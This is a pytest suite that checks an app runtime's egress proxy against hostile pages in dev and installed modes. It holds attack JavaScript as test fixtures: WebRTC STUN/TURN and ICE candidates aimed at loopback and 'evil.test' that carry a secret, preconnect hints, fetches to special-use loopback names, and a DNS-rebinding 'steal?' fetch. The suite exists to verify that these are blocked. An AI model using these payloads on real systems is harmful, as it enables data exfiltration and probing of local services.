"""Egress the request interceptor never sees, and loopback through special-use names (issue 12).

A recorder on 127.0.0.1 stands for a local service: it counts every TCP connection it
accepts and every UDP datagram sent to its port (the same number for both), before any
parsing. Hostile pages, in developer mode and as signed installed apps, aim peer-to-peer media
transports (STUN/TURN over UDP and TCP, remote ICE candidates), speculative connections
(preconnect, dns-prefetch), special-use names and a listed name that resolves to loopback at
it. The recorder must count **zero**, the refusal must be in the audit log where a connection
was attempted, and the app must still be on its own page.

The wall is the app's egress proxy (``superapp.net._egress``); the engine switch that keeps
WebRTC on proxied TCP (``--force-webrtc-ip-handling-policy=disable_non_proxied_udp``) is what
makes the UDP attacks meet it. Both were checked by removing them: without the switch the
WebRTC test counts 258 STUN datagrams carrying the page's ICE user fragment; without the
proxy switches the preconnect test counts bare TCP connects to 127.0.0.1.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from superapp.bundles import TrustStore, install_bundle, pack_dir
from superapp.core.errors import ManifestError
from superapp.core.paths import Paths
from tests.attacks.hostile import audit_events, call, make_app, wait_for_audit, wait_until
from tests.e2e.harness import HostProcess

APP = "com.attacker.egress"
SECRET = "s3cr3t-7f1c"
MODES = ("dev", "installed")

#: ICE servers and remote candidates all aimed at the recorder (``P`` is its port). A
#: fabricated answer makes the engine run connectivity checks against the candidates, which
#: carry the secret as the ICE user fragment (it would be in every STUN binding request).
WEBRTC = """
const servers = [
  {urls: [`stun:127.0.0.1:${P}`, `stun:evil.test:${P}`]},
  {urls: [`turn:127.0.0.1:${P}?transport=udp`, `turn:127.0.0.1:${P}?transport=tcp`,
          `turn:evil.test:${P}?transport=tcp`], username: SECRET, credential: SECRET},
];
const pc = new RTCPeerConnection({iceServers: servers, iceCandidatePoolSize: 2});
window.__pc = pc;
pc.createDataChannel(SECRET);
const offer = await pc.createOffer();
await pc.setLocalDescription(offer);
const fp = offer.sdp.match(/a=fingerprint:.*/)[0];
const answer = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
  'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
  `a=ice-ufrag:${SECRET}`, 'a=ice-pwd:' + SECRET.repeat(4), fp, 'a=setup:active', 'a=mid:0',
  'a=sctp-port:5000', ''].join('\\r\\n');
await pc.setRemoteDescription({type: 'answer', sdp: answer});
for (const c of [`candidate:1 1 udp 2122260223 127.0.0.1 ${P} typ host`,
                 `candidate:2 1 tcp 1518280447 127.0.0.1 ${P} typ host tcptype passive`]) {
  await pc.addIceCandidate({candidate: c, sdpMid: '0', sdpMLineIndex: 0});
}
await new Promise(r => { if (pc.iceGatheringState === 'complete') r();
  pc.addEventListener('icegatheringstatechange', () => { if (pc.iceGatheringState === 'complete') r(); }); });
window.__results.gathered = pc.localDescription.sdp.split('\\r\\n').filter(l => l.startsWith('a=candidate'));
"""


def _page(tmp: Path, body: str, *, allowed: list[str] = (), http: list[str] = ()) -> Path:  # type: ignore[assignment]
    script = (
        f"const P = window.__PORT__, SECRET = {SECRET!r};\n"
        "window.addEventListener('load', async () => { try {\n"
        f"{body}\n"
        "} catch (e) { window.__results.error = String(e); } window.__done = true; });"
    )
    return make_app(tmp, APP, script=script, allowed_hosts=allowed, allow_http_hosts=http)


def _with_port(folder: Path, port: int) -> Path:
    app_js = folder / "app.js"
    app_js.write_text(
        app_js.read_text(encoding="utf-8").replace("window.__PORT__", str(port)), encoding="utf-8"
    )
    return folder


def _open(mode: str, folder: Path, open_app: Any, paths: Paths, env: dict[str, str]) -> Any:
    if mode == "dev":
        return open_app("dev", folder, env=env)[1]
    key = Ed25519PrivateKey.generate()
    TrustStore(paths).add(key.public_key(), "Attacker Co")
    install_bundle(paths, pack_dir(folder, key))
    return open_app("run", APP, env=env)[1]


def _egress_blocks(paths: Paths) -> list[Any]:
    return [
        e for e in audit_events(paths, "net.blocked", APP) if e["superapp"].get("via") == "egress"
    ]


def _still_home(page: Any) -> None:
    assert page.url == f"app://{APP}/index.html"
    assert call(page, "app.info")["ok"] is True


@pytest.mark.parametrize("mode", MODES)
def test_webrtc_ice_to_a_local_address_never_leaves_the_engine(
    mode: str, tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    evil = net_hosts.evil
    folder = _with_port(_page(tmp_path, WEBRTC), evil.port)
    page = _open(mode, folder, open_app, superapp_home, net_hosts.env)
    page.wait_for_function("() => window.__done === true", timeout=60_000)
    results = page.evaluate("window.__results")
    assert "error" not in results, results
    # TURN over TCP is the one transport the policy leaves, and it meets the proxy: refused
    # and audited (the evil.test relay by name, the 127.0.0.1 one as a local address).
    blocks = wait_until(
        lambda: {e["superapp"]["rule"] for e in _egress_blocks(superapp_home)} >= {
            "not-allowlisted", "ip-literal"},
        what="the egress proxy's refusals of the TURN relays",
    )  # fmt: skip
    assert blocks
    # Connectivity checks against the remote candidates would have started by now; the
    # engine's ICE agent has settled on "checking"/"failed" without any transport to use.
    page.wait_for_function(
        "() => ['checking', 'failed', 'disconnected'].includes(window.__pc.iceConnectionState)"
    )
    assert not any("typ relay" in c or "typ srflx" in c for c in results["gathered"])
    assert evil.contacts == 0, (evil.connections, evil.datagrams)
    assert evil.hits == []
    _still_home(page)


@pytest.mark.parametrize("mode", MODES)
def test_preconnect_and_dns_prefetch_never_reach_a_host_not_in_the_allowlist(
    mode: str, tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    hints = [
        ("preconnect", "http://evil.test"),
        ("preconnect", "https://evil.test"),
        ("preconnect", "http://127.0.0.1:${P}"),
        ("preconnect", "https://localhost:${P}"),
        ("dns-prefetch", "http://evil.test"),
        ("preload", "http://evil.test/p.js"),
    ]
    body = "\n".join(
        f"{{ const l = document.createElement('link'); l.rel = '{rel}'; "
        f"l.href = `{href}`; document.head.append(l); }}"
        for rel, href in hints
    )
    # An allowed request after the hints: when it has arrived, the engine has acted on them.
    body += "\nawait fetch('http://widgets.test/marker').catch(() => {});"
    folder = _with_port(
        _page(tmp_path, body, allowed=["widgets.test"], http=["widgets.test"]),
        net_hosts.evil.port,
    )
    page = _open(mode, folder, open_app, superapp_home, net_hosts.env)
    page.wait_for_function("() => window.__done === true")
    net_hosts.good.wait_for_hits(1, where=lambda h: h.path == "/marker")
    # The https pre-connects became CONNECTs that the proxy refused and audited.
    expected = {("evil.test:443", "not-allowlisted"),
                (f"localhost:{net_hosts.evil.port}", "special-use-name")}  # fmt: skip
    wait_until(
        lambda: expected <= {(e["superapp"]["url"], e["superapp"]["rule"])
                             for e in _egress_blocks(superapp_home)},
        what="the proxy's refusals of the https pre-connects",
    )  # fmt: skip
    assert net_hosts.evil.contacts == 0, net_hosts.evil.connections
    _still_home(page)


@pytest.mark.parametrize("mode", MODES)
def test_special_use_names_never_reach_loopback(
    mode: str, tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    targets = ["http://evil.localhost:${P}/a", "http://localhost:${P}/b",
               "https://printer.local:${P}/c", "http://127.0.0.1:${P}/d", "http://[::ffff:127.0.0.1]:${P}/e"]  # fmt: skip
    body = "\n".join(f"await fetch(`{t}`).catch(() => {{}});" for t in targets)
    body += "\ntry { new WebSocket(`ws://app.localhost:${P}/ws`); } catch (e) {}"
    folder = _with_port(_page(tmp_path, body), net_hosts.evil.port)
    # Six refusals of one kind: more than the audit flood gate writes one by one by default
    # (the rest become "N more like this"); this test wants each one's own entry.
    superapp_home.policy_file.write_text("[audit]\nflood_per_kind = 50\n", encoding="utf-8")
    page = _open(mode, folder, open_app, superapp_home, net_hosts.env)
    page.wait_for_function("() => window.__done === true")

    # The app's CSP refuses most of these inside the renderer (audited as csp-*); whatever
    # gets past it meets the interceptor and the proxy. Every target is refused and audited.
    def refused() -> list[str]:
        return [
            e["superapp"].get("url", "") for e in audit_events(superapp_home, "net.blocked", APP)
        ]

    for needle in ("evil.localhost", "//localhost", "printer.local", "127.0.0.1", "app.localhost"):
        wait_until(lambda n=needle: any(n in u for u in refused()), what=f"a refusal of {needle}")
    assert net_hosts.evil.contacts == 0
    _still_home(page)


@pytest.mark.parametrize(
    "host", ["evil.localhost", "*.localhost", "nas.home.arpa", "printer.local"]
)
def test_manifest_listing_a_special_use_name_is_refused_at_pack_and_in_dev_mode(
    host: str, tmp_path: Path, host_env: dict[str, str], hosts: list[HostProcess],
    superapp_home: Paths, net_hosts: Any,
) -> None:  # fmt: skip
    folder = make_app(tmp_path, APP, allowed_hosts=[host])
    with pytest.raises(ManifestError, match="allowed_hosts"):
        pack_dir(folder, Ed25519PrivateKey.generate())
    dev = HostProcess(["dev", str(folder)], net_hosts.env)
    hosts.append(dev)
    assert dev.proc.wait(60) != 0
    text = "\n".join(dev.lines + dev.stderr_lines)
    assert "allowed_hosts" in text and host in text
    assert net_hosts.evil.contacts == 0


@pytest.mark.parametrize("mode", MODES)
def test_listed_name_that_resolves_to_loopback_is_refused(
    mode: str, tmp_path: Path, open_app: Any, net_hosts: Any, superapp_home: Paths
) -> None:
    # ``rebind.test`` is listed; the proxy's resolver (test seam) answers 127.0.0.1 for it, as a
    # hostile DNS server would, and would connect on the recorder's port if it accepted it.
    env = dict(net_hosts.env, SUPERAPP_TEST_DNS=f"rebind.test=127.0.0.1/{net_hosts.evil.port}")
    body = (
        "await fetch('http://rebind.test/steal?' + SECRET).catch(() => {});\n"
        "try { new WebSocket('ws://rebind.test/ws'); } catch (e) {}\n"
        "const i = new Image(); i.src = 'http://rebind.test/i.png'; document.body.append(i);"
    )
    folder = _page(tmp_path, body, allowed=["rebind.test"], http=["rebind.test"])
    page = _open(mode, folder, open_app, superapp_home, env)
    page.wait_for_function("() => window.__done === true")
    event = wait_for_audit(
        superapp_home, lambda e: e["superapp"].get("rule") == "private-address",
        action="net.blocked", app_id=APP,
    )  # fmt: skip
    assert event["superapp"]["via"] == "egress"
    assert "127.0.0.1" in event["event"]["reason"]
    assert net_hosts.evil.contacts == 0
    _still_home(page)


def test_runtime_refuses_to_open_a_window_without_its_egress_proxy(
    tmp_path: Path, host_env: dict[str, str], hosts: list[HostProcess], superapp_home: Paths,
    net_hosts: Any,
) -> None:  # fmt: skip
    # The test seam stops the proxy right after it started, before the runtime's liveness
    # check: the engine must never be started, so the page's request can never be made.
    folder = make_app(tmp_path, APP, script="fetch('http://evil.test/x');",
                      allowed_hosts=["evil.test"], allow_http_hosts=["evil.test"])  # fmt: skip
    env = dict(net_hosts.env, SUPERAPP_TEST_BREAK_EGRESS="1")
    dev = HostProcess(["dev", str(folder)], env)
    hosts.append(dev)
    event = wait_for_audit(superapp_home, lambda e: True, action="egress.unavailable", app_id=APP)
    assert event["event"]["outcome"] == "failure"
    crashed = wait_for_audit(superapp_home, lambda e: True, action="app.crashed", app_id=APP)
    assert "egress proxy" in crashed["event"]["reason"]
    assert not [e for e in audit_events(superapp_home, "app.loaded", APP)]
    assert net_hosts.evil.contacts == 0
